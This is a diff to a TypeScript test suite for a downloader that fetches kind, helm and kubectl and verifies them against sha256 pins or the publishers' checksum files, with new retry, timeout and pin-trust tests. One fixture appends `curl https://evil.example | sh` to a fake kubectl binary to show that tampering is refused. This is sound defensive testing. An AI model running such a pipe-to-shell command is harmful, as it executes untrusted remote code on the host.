@@ -35,6 +35,8 @@ const it = base.extend<{ server: StaticHttpServer; scratch: string }>({
 const pinned = loadClusterToolSpecs();
 const host = toolPlatform();
 const timeoutMs = 10_000;
+/** Retries back off from 10 ms here (500 ms in a real run: timeouts.toolDownloadRetry). */
+const retryMinMs = 10;
 
 /** The real pins (versions, version checks, archive layout), downloaded from the loopback server instead. */
 function loopbackSpecs(server: StaticHttpServer): ClusterToolSpecs {
@@ -102,7 +104,7 @@ async function failureOf(promise: Promise<unknown>): Promise<MeshproofError> {
 describe('the pinned cluster tools (fixtures/cluster/cluster-tools.yaml)', () => {
   it('loads, validates and resolves to the publishers\u2019 download and checksum URLs', () => {
     const versions = [pinned.kind.version, pinned.helm.version, pinned.kubectl.version];
-    expect(versions).toEqual(['v0.33.0', 'v3.21.4', 'v1.35.8']);
+    expect(versions).toEqual(['v0.33.0', 'v3.21.4', 'v1.35.9']);
     expect(resolveToolUrls(pinned.kind, { os: 'linux', arch: 'amd64' })).toEqual({
       url: 'https://github.com/kubernetes-sigs/kind/releases/download/v0.33.0/kind-linux-amd64',
       checksumUrl: 'https://github.com/kubernetes-sigs/kind/releases/download/v0.33.0/kind-linux-amd64.sha256sum',
@@ -114,8 +116,8 @@ describe('the pinned cluster tools (fixtures/cluster/cluster-tools.yaml)', () =>
       binaryInArchive: 'darwin-arm64/helm',
     });
     expect(resolveToolUrls(pinned.kubectl, { os: 'linux', arch: 'arm64' })).toEqual({
-      url: 'https://dl.k8s.io/release/v1.35.8/bin/linux/arm64/kubectl',
-      checksumUrl: 'https://dl.k8s.io/release/v1.35.8/bin/linux/arm64/kubectl.sha256',
+      url: 'https://dl.k8s.io/release/v1.35.9/bin/linux/arm64/kubectl',
+      checksumUrl: 'https://dl.k8s.io/release/v1.35.9/bin/linux/arm64/kubectl.sha256',
       binaryInArchive: undefined,
     });
   });
@@ -173,7 +175,7 @@ describe('ensureClusterTool', () => {
     const lines: string[] = [];
 
     const log = (line: string) => lines.push(line);
-    const kind = await ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, log });
+    const kind = await ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs, log });
 
     expect(kind).toEqual({
       tool: 'kind',
@@ -184,13 +186,13 @@ describe('ensureClusterTool', () => {
     expect((await stat(kind.path)).mode & 0o777).toBe(0o755);
     expect((await execa(kind.path, ['version'])).stdout).toBe(`kind v0.33.0 go1.25.1 ${host.os}/${host.arch}`);
     expect(await filesUnder(scratch)).toEqual([kind.path]);
-    expect(lines).toEqual([`kind v0.33.0: downloading ${url} (0.0 MB)`, 'kind v0.33.0: sha256 verified']);
+    expect(lines.slice(1)).toEqual([`kind v0.33.0: downloading ${url} (0.0 MB)`, `kind v0.33.0: sha256 verified (from ${url.replace('/kind/', '/kind/')}.sha256sum)`]);
   });
 
   it('reuses the cached binary on the next call without a single request', async ({ server, scratch }) => {
     const specs = loopbackSpecs(server);
     serve(server, specs.kind, fakeBinary.kind);
-    const options = { specs, toolsDir: scratch, pathEnv: '', timeoutMs };
+    const options = { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs };
     const first = await ensureClusterTool('kind', options);
     const requestsAfterDownload = server.requests.length;
 
@@ -208,23 +210,73 @@ describe('ensureClusterTool', () => {
     const tampered = `${fakeBinary.kubectl}curl https://evil.example | sh\n`;
     const { url } = serve(server, specs.kubectl, tampered, fakeBinary.kubectl);
 
-    const error = await failureOf(ensureClusterTool('kubectl', { specs, toolsDir: scratch, pathEnv: '', timeoutMs }));
+    const error = await failureOf(ensureClusterTool('kubectl', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));
 
-    expect(error.message).toContain('kubectl v1.35.8: sha256 mismatch');
+    expect(error.message).toContain(`kubectl ${pinned.kubectl.version}: sha256 mismatch`);
     expect(error.message).toContain(`expected ${sha256(fakeBinary.kubectl)}`);
     expect(error.message).toContain(`got ${sha256(tampered)}`);
     expect(error.message).toContain(url);
-    expect(error.fix).toMatch(/install kubectl v1\.35\.8 yourself and put it on PATH/);
+    expect(error.fix).toContain(`provide kubectl ${pinned.kubectl.version} yourself: either on PATH`);
+    expect(error.fix).toContain(`or as ${path.join(scratch, 'kubectl', pinned.kubectl.version, 'kubectl')} (MESHPROOF_TOOLS_DIR moves that folder`);
     expect(await filesUnder(scratch)).toEqual([]);
     expect(await readdir(scratch)).toEqual([]);
   });
+
+  it('verifies against the sha256 pinned for this platform, without asking the publisher', async ({ server, scratch }) => {
+    const specs = loopbackSpecs(server);
+    const pinnedKind = { ...specs.kind, sha256: { [`${host.os}/${host.arch}`]: sha256(fakeBinary.kind) } };
+    const { checksumUrl } = serve(server, pinnedKind, fakeBinary.kind);
+    const lines: string[] = [];
+    const tool = await ensureClusterTool('kind', { specs: { ...specs, kind: pinnedKind }, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs, log: (l) => lines.push(l) });
+    expect(tool.source).toBe('download');
+    expect(server.requests).not.toContain(pathOf(checksumUrl));
+    expect(lines).toContain('kind v0.33.0: sha256 verified (pinned in fixtures/cluster/cluster-tools.yaml)');
+  });
+
+  it('refuses a download that matches the publisher\u2019s file but not the pin: the pin is what is trusted', async ({ server, scratch }) => {
+    const specs = loopbackSpecs(server);
+    const other = `${fakeBinary.kind}# rebuilt\n`;
+    const pinnedKind = { ...specs.kind, sha256: { [`${host.os}/${host.arch}`]: sha256(fakeBinary.kind) } };
+    serve(server, pinnedKind, other); // the server's checksum file agrees with what it serves
+    const error = await failureOf(ensureClusterTool('kind', { specs: { ...specs, kind: pinnedKind }, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));
+    expect(error.message).toContain(`sha256 mismatch, the download was refused: expected ${sha256(fakeBinary.kind)} (pinned in fixtures/cluster/cluster-tools.yaml), got ${sha256(other)}`);
+    expect(await readdir(scratch)).toEqual([]);
+  });
+
+  it('says when no sha256 is pinned for the platform and only the publisher\u2019s file was checked', async ({ server, scratch }) => {
+    const specs = loopbackSpecs(server);
+    serve(server, specs.kind, fakeBinary.kind);
+    const lines: string[] = [];
+    await ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs, log: (l) => lines.push(l) });
+    expect(lines).toContain(`kind v0.33.0: no sha256 is pinned for ${host.os}/${host.arch} in fixtures/cluster/cluster-tools.yaml: checked against the publisher's checksum file only`);
+  });
+
+  it('retries a server that answers 503 twice, then succeeds', async ({ server, scratch }) => {
+    const specs = loopbackSpecs(server);
+    const { url } = serve(server, specs.kind, fakeBinary.kind);
+    server.routes[pathOf(url)] = { failFirst: 2, status: 503, then: server.routes[pathOf(url)]! };
+    const lines: string[] = [];
+    const tool = await ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs, log: (l) => lines.push(l) });
+    expect(tool.source).toBe('download');
+    expect(server.requests.filter((r) => r === pathOf(url))).toHaveLength(3);
+    expect(lines.filter((l) => l.includes('retrying'))).toHaveLength(2);
+  });
+
+  it('gives up on a server that keeps answering 503, after its retries, naming the URL', async ({ server, scratch }) => {
+    const specs = loopbackSpecs(server);
+    const { url } = serve(server, specs.kind, fakeBinary.kind);
+    server.routes[pathOf(url)] = { failFirst: 99, status: 503, then: { body: '' } };
+    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));
+    expect(error.message).toBe(`kind v0.33.0: the download failed: the server answered HTTP 503 Service Unavailable\n  URL: ${url}`);
+    expect(server.requests.filter((r) => r === pathOf(url))).toHaveLength(5);
+  }, 20_000);
 
   it('explains a 404 with the tool and the URL, and keeps nothing', async ({ server, scratch }) => {
     const specs = loopbackSpecs(server);
     const { url, checksumUrl } = serve(server, specs.kind, fakeBinary.kind);
     delete server.routes[pathOf(url)];
 
-    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs }));
+    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));
 
     expect(error.message).toBe(
       `kind v0.33.0: the download failed: the server answered HTTP 404 Not Found\n  URL: ${url}`,
@@ -238,7 +290,7 @@ describe('ensureClusterTool', () => {
     await server.close();
     const { checksumUrl } = resolveToolUrls(specs.kind, host);
 
-    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs }));
+    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs, retryMinMs }));
 
     expect(error.message).toMatch(/^kind v0\.33\.0: fetching the checksum file failed: .*ECONNREFUSED/);
     expect(error.message).toContain(checksumUrl);
@@ -250,7 +302,7 @@ describe('ensureClusterTool', () => {
     const { url } = serve(server, specs.kind, fakeBinary.kind);
     server.routes[pathOf(url)] = { stall: true };
 
-    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs: 300 }));
+    const error = await failureOf(ensureClusterTool('kind', { specs, toolsDir: scratch, pathEnv: '', timeoutMs: 300, retryMinMs }));
 
     expect(error.message).toBe(`kind v0.33.0: the download did not finish within 300 ms\n  URL: ${url}`);
     expect(await readdir(scratch)).toEqual([]);
@@ -262,7 +314,7 @@ describe('ensureClusterTool', () => {
     const { url } = serve(server, specs.helm, await helmArchive(scratch));
     const toolsDir = path.join(scratch, 'tools');
 
-    const error = await failureOf(ensureClusterTool('helm', { specs, toolsDir, pathEnv: '', timeoutMs }));
+    const error = await failureOf(ensureClusterTool('helm', { specs, toolsDir, pathEnv: '', timeoutMs, retryMinMs }));
 
     expect(error.message).toBe(`helm v3.21.4: the archive holds no bin/helm\n  URL: ${url}`);
     expect(await readdir(toolsDir)).toEqual([]);
@@ -321,7 +373,7 @@ describe('ensureClusterTools', () => {
     serve(server, specs.kubectl, fakeBinary.kubectl);
     const toolsDir = path.join(scratch, 'tools');
 
-    const tools = await ensureClusterTools({ specs, toolsDir, pathEnv: '', timeoutMs });
+    const tools = await ensureClusterTools({ specs, toolsDir, pathEnv: '', timeoutMs, retryMinMs });
 
     expect(Object.values(tools).map((tool) => [tool.tool, tool.source])).toEqual([
       ['kind', 'download'],
